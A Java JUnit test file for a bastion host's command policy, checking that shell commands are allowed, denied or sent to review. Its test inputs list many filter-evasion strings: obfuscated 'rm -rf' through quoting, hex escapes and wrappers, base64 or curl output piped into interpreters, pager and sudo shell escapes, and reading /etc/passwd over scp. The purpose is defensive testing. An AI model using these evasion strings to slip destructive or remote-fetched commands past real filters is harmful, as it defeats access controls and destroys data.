package dev.vigil.bastion.policy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.regex.Pattern;

import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The adversarial cases of the bastion notes (§5), one nested class per row that concerns commands. */
class CommandPolicyTest {

    static final CommandScope WEB = new CommandScope(Set.of("web", "prod"), "deploy");

    static CommandRule rule(String name, CommandAction action, String... programs) {
        return new CommandRule("id-" + name, name, Optional.empty(), Optional.empty(), List.of(programs), Optional.empty(), action);
    }

    static CommandRule regex(String name, CommandAction action, String pattern) {
        return new CommandRule("id-" + name, name, Optional.empty(), Optional.empty(), List.of(), Optional.of(Pattern.compile(pattern)), action);
    }

    /** Deny-list: rm and shred denied, everything else runs. */
    static final ScopedPolicy DENY_RM = new CommandPolicy(List.of(rule("no-rm", CommandAction.DENY, "rm", "shred")), List.of()).scoped(WEB);

    /** Restricted: only ls, cat, uptime, and (for the escape-hatch cases) the programs under test. */
    static ScopedPolicy restricted(CommandAction uncertain, String... allowed) {
        return new CommandPolicy(List.of(rule("allowed", CommandAction.ALLOW, allowed)),
                List.of(new ScopeMode(Optional.empty(), Optional.empty(), PolicyMode.RESTRICTED, uncertain))).scoped(WEB);
    }

    static final ScopedPolicy RESTRICTED = restricted(CommandAction.DENY, "ls", "cat", "uptime");

    @Nested
    class Case1QuotingAndEscapes {
        @ParameterizedTest
        @ValueSource(strings = {"r''m -rf x", "\\rm -rf x", "\"r\"m -rf x", "$'\\x72\\x6d' -rf x", "$'\\162\\155' -rf x", "/bin/rm -rf x",
                "/???/rm -rf x", "'/bin/rm' x"})
        void theDeniedProgramIsRecognisedAfterQuoteRemoval(String line) {
            CommandVerdict verdict = DENY_RM.decide(line);
            assertThat(verdict.action()).as(verdict.reasons().toString()).isEqualTo(CommandAction.DENY);
            assertThat(verdict.ruleId()).contains("id-no-rm");
        }

        @Test
        void aGlobInTheProgramNameCannotBeJudgedAndGoesToReview() {
            CommandVerdict verdict = DENY_RM.decide("/bin/r? -rf x");
            assertThat(verdict.action()).isEqualTo(CommandAction.REVIEW);
            assertThat(verdict.reasons()).anyMatch(r -> r.contains("only known after expansion"));
        }

        @ParameterizedTest
        @ValueSource(strings = {"l''s", "\\ls", "\"ls\"", "ls *", "ls ~", "ls {a,b}", "ls # comment", "ls $HOME", "ls > out", "ls !x"})
        void restrictedModeAdmitsNoMetacharacterEvenAroundAnAllowedProgram(String line) {
            assertThat(RESTRICTED.decide(line).action()).isEqualTo(CommandAction.DENY);
            assertThat(RESTRICTED.decide("ls -la /tmp").action()).isEqualTo(CommandAction.ALLOW);
        }
    }

    @Nested
    class Case2Substitution {
        @ParameterizedTest
        @ValueSource(strings = {"a=r; b=m; $a$b -rf x", "$(printf rm) -rf x", "`printf rm` -rf x", "${X:-rm} -rf x"})
        void aProgramOnlyKnownAtRunTimeGoesToReview(String line) {
            CommandVerdict verdict = DENY_RM.decide(line);
            assertThat(verdict.action()).as(verdict.reasons().toString()).isEqualTo(CommandAction.REVIEW);
        }

        @Test
        void aDeniedCommandInsideASubstitutionIsDenied() {
            assertThat(DENY_RM.decide("echo $(rm -rf x)").action()).isEqualTo(CommandAction.DENY);
            assertThat(DENY_RM.decide("echo \"`rm -rf x`\"").action()).isEqualTo(CommandAction.DENY);
            assertThat(DENY_RM.decide("diff <(rm x) y").action()).isEqualTo(CommandAction.DENY);
        }

        @Test
        void restrictedModeRefusesThem() {
            assertThat(RESTRICTED.decide("$(printf ls)").action()).isEqualTo(CommandAction.DENY);
        }
    }

    @Nested
    class Case3EncodingIntoAnInterpreter {
        @ParameterizedTest
        @ValueSource(strings = {"echo cm0gLXJmIHgK | base64 -d | sh", "xxd -r -p f.hex | bash", "rev <<< 'x fr- mr' | sh",
                "curl -s http://x/y | python3", "cat x | perl", "echo code | node", "base64 -d f | sh -s", "cat f | source /dev/stdin"})
        void aPipeIntoAnInterpreterGoesToReviewWithTheWholeLineAudited(String line) {
            CommandVerdict verdict = DENY_RM.decide(line);
            assertThat(verdict.action()).as(verdict.reasons().toString()).isEqualTo(CommandAction.REVIEW);
            assertThat(verdict.reasons()).anyMatch(r -> r.contains("piped into an interpreter"));
            assertThat(verdict.analysis().line()).isEqualTo(line);
        }

        @Test
        void aPipeIntoAwkIsDataNotCode() {
            assertThat(DENY_RM.decide("ps aux | awk '{print $2}'").action()).isEqualTo(CommandAction.ALLOW);
        }
    }

    @Nested
    class Case4Wrappers {
        @ParameterizedTest
        @ValueSource(strings = {"bash -c \"rm -rf x\"", "sh -c 'cd /; rm x'", "env rm x", "env -i A=1 rm x", "nice rm x", "nice -n 5 rm x",
                "busybox rm x", "command rm x", "sudo rm x", "sudo -u root -- rm x", "exec rm x", "timeout -s KILL 5 rm x",
                "xargs rm < list", "ls | xargs -n1 rm", "time rm x", "nohup rm x &", "script -qc 'rm x' /dev/null", "su -c 'rm x' root",
                "eval 'rm x'", "watch -n1 rm x", "stdbuf -oL rm x", "flock /tmp/l rm x", "env -S 'rm x'", "sudo bash -c 'env rm x'"})
        void theInnerCommandOfAKnownWrapperIsJudged(String line) {
            CommandVerdict verdict = DENY_RM.decide(line);
            assertThat(verdict.action()).as(verdict.reasons().toString()).isEqualTo(CommandAction.DENY);
        }

        @ParameterizedTest
        @ValueSource(strings = {"strace -f rm x", "parallel rm ::: x", "nsenter -t 1 -m rm x", "ssh other rm x", "eval \"$CMD\""})
        void anUnknownWrapperGoesToReview(String line) {
            CommandVerdict verdict = DENY_RM.decide(line);
            assertThat(verdict.action()).as(verdict.reasons().toString()).isEqualTo(CommandAction.REVIEW);
        }

        @Test
        void sudoStartingAShellIsAnEscapeHatchAnAllowListDoesNotAdmit() {
            ScopedPolicy policy = restricted(CommandAction.REVIEW, "ls", "sudo");
            assertThat(policy.decide("sudo -s").action()).isEqualTo(CommandAction.REVIEW);
            assertThat(policy.decide("sudo -i").action()).isEqualTo(CommandAction.REVIEW);
            assertThat(policy.decide("sudo ls").action()).isEqualTo(CommandAction.ALLOW);
            assertThat(policy.decide("sudo rm x").action()).isEqualTo(CommandAction.REVIEW);
        }

        @Test
        void transparentWrappersNeedNoAllowRuleButPrivilegeWrappersDo() {
            assertThat(RESTRICTED.decide("nice -n 5 ls").action()).isEqualTo(CommandAction.ALLOW);
            assertThat(RESTRICTED.decide("sudo ls").action()).isEqualTo(CommandAction.DENY);
        }
    }

    @Nested
    class Case5ScriptsAndHeredocs {
        @Test
        void aHereDocumentBodyIsDataAndIsKeptForTheRecord() {
            CommandVerdict verdict = DENY_RM.decide("cat > t.sh <<'EOF'\nrm -rf x\nEOF");
            assertThat(verdict.action()).isEqualTo(CommandAction.ALLOW);
            assertThat(verdict.analysis().heredocs()).containsExactly("rm -rf x\n");
        }

        @Test
        void runningAScriptInRestrictedModeGoesToReview() {
            ScopedPolicy policy = restricted(CommandAction.REVIEW, "ls", "sh", "bash");
            CommandVerdict verdict = policy.decide("sh t.sh");
            assertThat(verdict.action()).isEqualTo(CommandAction.REVIEW);
            assertThat(verdict.reasons()).anyMatch(r -> r.contains("runs a script"));
            assertThat(policy.decide("bash < t.sh").action()).isEqualTo(CommandAction.REVIEW);
        }

        @Test
        void aSubstitutionInAnUnquotedHereDocumentRuns() {
            assertThat(DENY_RM.decide("cat <<EOF\n$(rm -rf x)\nEOF").action()).isEqualTo(CommandAction.DENY);
        }
    }

    @Nested
    class Case6Chaining {
        static final ScopedPolicy ALLOW_LS_DENY_RM = new CommandPolicy(List.of(rule("ls", CommandAction.ALLOW, "ls"),
                rule("no-rm", CommandAction.DENY, "rm")), List.of()).scoped(WEB);

        @ParameterizedTest
        @ValueSource(strings = {"ls; rm x", "ls && rm x", "ls || rm x", "ls | xargs rm", "ls & rm x", "ls\nrm x", "(ls; rm x)", "{ ls; rm x; }",
                "if ls; then rm x; fi", "for f in *; do rm $f; done", "ls;rm x", "ls|rm x"})
        void everySimpleCommandMustPass(String line) {
            CommandVerdict verdict = ALLOW_LS_DENY_RM.decide(line);
            assertThat(verdict.action()).as(verdict.reasons().toString()).isEqualTo(CommandAction.DENY);
            assertThat(verdict.ruleId()).contains("id-no-rm");
        }

        @Test
        void restrictedModeRefusesAListEvenOfAllowedCommands() {
            assertThat(RESTRICTED.decide("ls; uptime").action()).isEqualTo(CommandAction.DENY);
        }
    }

    @Nested
    class Case7HistoryAndParserState {
        @ParameterizedTest
        @ValueSource(strings = {"!!", "!-2", "sudo !!", "^ls^rm", "fc -s", "echo \"!rm\""})
        void historyExpansionGoesToReview(String line) {
            CommandVerdict verdict = DENY_RM.decide(line);
            assertThat(verdict.action()).as(verdict.reasons().toString()).isEqualTo(CommandAction.REVIEW);
        }
    }

    @Nested
    class Case9MultiLinePaste {
        @Test
        void everyLineOfAPasteIsChecked() {
            assertThat(DENY_RM.decide("uptime\nls -l\nrm -rf x\nid").action()).isEqualTo(CommandAction.DENY);
            assertThat(DENY_RM.decide("uptime\nls -l\nid").action()).isEqualTo(CommandAction.ALLOW);
        }
    }

    @Nested
    class Case10UnechoedInput {
        @Test
        void anUnechoedLineIsUnknownAndRefusedInRestrictedMode() {
            assertThat(RESTRICTED.decideUnechoed().action()).isEqualTo(CommandAction.DENY);
            assertThat(RESTRICTED.decideUnechoed().reasons()).anyMatch(r -> r.contains("did not echo"));
            assertThat(DENY_RM.decideUnechoed().action()).isEqualTo(CommandAction.ALLOW);
        }
    }

    @Nested
    class Case11FullScreenEscapes {
        @ParameterizedTest
        @ValueSource(strings = {"vim /etc/hosts", "less /var/log/syslog", "git -c core.pager='sh -c id' log", "find . -exec ls {} ;",
                "awk 'BEGIN{system(\"id\")}'", "python3 -c 'import os'", "man ls", "perl -e 1", "sudo -e /etc/hosts"})
        void launchingEditorsPagersOrInterpretersInRestrictedModeNeedsReviewEvenWhenAllowed(String line) {
            ScopedPolicy policy = restricted(CommandAction.REVIEW, "vim", "less", "git", "find", "awk", "python3", "man", "perl", "sudo", "ls");
            CommandVerdict verdict = policy.decide(line.replace("'", "").replace("\"", ""));
            assertThat(verdict.action()).as(verdict.reasons().toString()).isEqualTo(CommandAction.REVIEW);
        }

        @Test
        void findExecRunsItsCommandWhichIsJudged() {
            assertThat(DENY_RM.decide("find /tmp -name '*.log' -exec rm {} \\;").action()).isEqualTo(CommandAction.DENY);
            assertThat(DENY_RM.decide("find /tmp -name x -delete").action()).isEqualTo(CommandAction.DENY);
        }

        @Test
        void inDenyListModeTheyRunButTheFindingIsReported() {
            CommandVerdict verdict = DENY_RM.decide("vim /etc/hosts");
            assertThat(verdict.action()).isEqualTo(CommandAction.ALLOW);
            assertThat(verdict.analysis().findings()).anyMatch(f -> f.concern() == Concern.LAUNCHES_EDITOR);
        }
    }

    @Nested
    class Case12ExecChannel {
        @Test
        void anExecCommandStringIsJudgedLikeATypedLine() {
            assertThat(DENY_RM.decide("echo hello; rm -rf /tmp/x").action()).isEqualTo(CommandAction.DENY);
            assertThat(DENY_RM.decide("echo hello; exit 3").action()).isEqualTo(CommandAction.ALLOW);
        }
    }

    @Nested
    class Case14FileTransferOverExec {
        @ParameterizedTest
        @ValueSource(strings = {"scp -t /tmp", "scp -f /etc/passwd", "/usr/lib/openssh/sftp-server", "rsync --server -vlogDtpre.iLsfxC . /tmp"})
        void transferEndpointsAreRecognisedAndGoToReview(String line) {
            CommandVerdict verdict = DENY_RM.decide(line);
            assertThat(verdict.action()).isEqualTo(CommandAction.REVIEW);
            assertThat(verdict.reasons()).anyMatch(r -> r.contains("file transfer"));
        }

        @Test
        void plainStreamsIntoFilesAreNotRecognisedAsTransfers() {
            // documented limit: `cat > f` or `tar x` fed by the client cannot be told from ordinary use; restricted mode refuses them
            assertThat(DENY_RM.decide("cat > f").action()).isEqualTo(CommandAction.ALLOW);
            assertThat(RESTRICTED.decide("cat > f").action()).isEqualTo(CommandAction.DENY);
        }
    }

    @Nested
    class RulesAndScopes {
        @Test
        void theFirstMatchingRuleWins() {
            ScopedPolicy policy = new CommandPolicy(List.of(regex("rm-tmp", CommandAction.WARN, "^rm -rf /tmp/"),
                    rule("no-rm", CommandAction.DENY, "rm")), List.of()).scoped(WEB);
            assertThat(policy.decide("rm -rf /tmp/x").action()).isEqualTo(CommandAction.WARN);
            assertThat(policy.decide("rm -rf /tmp/x").ruleId()).contains("id-rm-tmp");
            assertThat(policy.decide("rm -rf /etc").action()).isEqualTo(CommandAction.DENY);
        }

        @Test
        void programsAndPatternMustBothMatchWhenBothAreGiven() {
            CommandRule rule = new CommandRule("r", "rf", Optional.empty(), Optional.empty(), List.of("rm"), Optional.of(Pattern.compile("\\s-\\w*r")),
                    CommandAction.DENY);
            ScopedPolicy policy = new CommandPolicy(List.of(rule), List.of()).scoped(WEB);
            assertThat(policy.decide("rm -rf x").action()).isEqualTo(CommandAction.DENY);
            assertThat(policy.decide("rm x").action()).isEqualTo(CommandAction.ALLOW);
            assertThat(policy.decide("grep -r x").action()).isEqualTo(CommandAction.ALLOW);
        }

        @Test
        void rulesAndModesApplyOnlyToTheirTargetGroupAndAccount() {
            CommandRule db = new CommandRule("d", "db-only", Optional.of("db"), Optional.empty(), List.of("rm"), Optional.empty(), CommandAction.DENY);
            CommandRule root = new CommandRule("r", "root-only", Optional.empty(), Optional.of("root"), List.of("reboot"), Optional.empty(),
                    CommandAction.DENY);
            CommandPolicy policy = new CommandPolicy(List.of(db, root),
                    List.of(new ScopeMode(Optional.of("db"), Optional.empty(), PolicyMode.RESTRICTED, CommandAction.DENY)));
            assertThat(policy.scoped(WEB).decide("rm x").action()).isEqualTo(CommandAction.ALLOW);
            assertThat(policy.scoped(WEB).decide("reboot").action()).isEqualTo(CommandAction.ALLOW);
            assertThat(policy.scoped(new CommandScope(Set.of("web"), "root")).decide("reboot").action()).isEqualTo(CommandAction.DENY);
            ScopedPolicy dbScope = policy.scoped(new CommandScope(Set.of("db"), "deploy"));
            assertThat(dbScope.mode()).isEqualTo(PolicyMode.RESTRICTED);
            assertThat(dbScope.decide("uptime").action()).isEqualTo(CommandAction.DENY);
        }

        @Test
        void aScopeWithoutRulesIsNotFiltered() {
            ScopedPolicy none = CommandPolicy.NONE.scoped(WEB);
            assertThat(none.active()).isFalse();
            assertThat(none.decide("$(printf rm) -rf x | sh").action()).isEqualTo(CommandAction.ALLOW);
        }

        @Test
        void restrictedModeTakesOnlyReviewOrDenyForUncertainCommands() {
            assertThatThrownBy(() -> new ScopeMode(Optional.empty(), Optional.empty(), PolicyMode.RESTRICTED, CommandAction.WARN))
                    .hasMessageContaining("use review or deny");
            assertThatThrownBy(() -> new CommandRule("x", "empty", Optional.empty(), Optional.empty(), List.of(), Optional.empty(), CommandAction.DENY))
                    .hasMessageContaining("needs programs or a pattern");
        }
    }

    @Nested
    class Confinement {
        /** Admits lines whose every command is uptime or df; names why otherwise. */
        final CommandConfinement plan = analysis -> analysis.units().stream().allMatch(u -> "uptime".equals(u.program()) || "df".equals(u.program()))
                ? Optional.empty() : Optional.of("outside the plan of execution e-1");

        @Test
        void aConfinedScopeIsCheckedEvenWithoutRulesAndDeniesWhatTheConfinementRefusesWithItsReasonFirst() {
            ScopedPolicy confined = CommandPolicy.NONE.scoped(WEB).confinedBy(plan);
            assertThat(confined.active()).isTrue();
            assertThat(confined.decide("df -h /").action()).isEqualTo(CommandAction.ALLOW);
            CommandVerdict refused = confined.decide("uptime; id -un");
            assertThat(refused.action()).isEqualTo(CommandAction.DENY);
            assertThat(refused.runs()).isFalse();
            assertThat(refused.ruleId()).isEmpty();
            assertThat(refused.reasons()).first().isEqualTo("outside the plan of execution e-1");
        }

        @Test
        void theRulesStillDecideWhatTheConfinementAdmits() {
            ScopedPolicy confined = new CommandPolicy(List.of(rule("no-df", CommandAction.DENY, "df")), List.of()).scoped(WEB).confinedBy(plan);
            CommandVerdict verdict = confined.decide("df -h /");
            assertThat(verdict.action()).isEqualTo(CommandAction.DENY);
            assertThat(verdict.ruleId()).contains("id-no-df");
            assertThat(confined.decide("uptime").action()).isEqualTo(CommandAction.ALLOW);
        }
    }
}
